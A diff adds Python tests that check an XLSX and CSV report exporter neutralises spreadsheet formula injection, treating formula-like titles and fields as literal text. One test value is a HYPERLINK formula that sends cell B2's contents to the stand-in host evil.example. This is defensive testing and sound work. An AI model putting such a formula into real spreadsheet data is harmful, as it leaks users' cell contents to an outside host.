@@ -179,3 +179,39 @@ def test_krenova_total_is_weighted_and_rounded_half_up() -> None:
     assert krenova_total(rubric, scores) == Decimal("89.50")
     odd = [CriterionScore(key=c.key, score=1) for c in rubric.krenova_criteria]
     assert krenova_total(rubric, odd) == Decimal("1.00")
+
+
+HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&B2,"Lihat bukti")'
+
+
+def hostile_report() -> export.Report:
+    """A title and an initiator that a spreadsheet would run as formulas."""
+    base = report(HOSTILE_TITLE)
+    row = base.rows[0]
+    profile = msgspec.structs.replace(row.profile, initiator_name="=1+1", affair="@SUM(A1)")
+    return msgspec.structs.replace(
+        base,
+        created_by="-2+3",
+        rows=(msgspec.structs.replace(row, profile=profile),),
+    )
+
+
+def test_xlsx_writes_formula_text_as_text_cells() -> None:
+    book = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(hostile_report())))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
+    for text in (HOSTILE_TITLE, "=1+1", "@SUM(A1)", "-2+3"):
+        cell = by_value[text]  # the value itself, unchanged, as a string cell shown literally
+        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.coordinate)
+    assert not by_value["Inovasi pelayanan publik"].quotePrefix  # ordinary text is untouched
+
+
+def test_csv_prefixes_formula_text_with_an_apostrophe() -> None:
+    content = export.csv_bytes(hostile_report())
+    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
+    assert row["Nama inovasi"] == "'" + HOSTILE_TITLE
+    assert row["Nama inisiator"] == "'=1+1"
+    assert row["Urusan pemerintahan"] == "'@SUM(A1)"
+    assert row["Anggaran APBD T-0 (Rp)"] == "150000000"  # numbers stay numbers
+    assert export.csv_bytes(hostile_report()) == content  # still a pure function
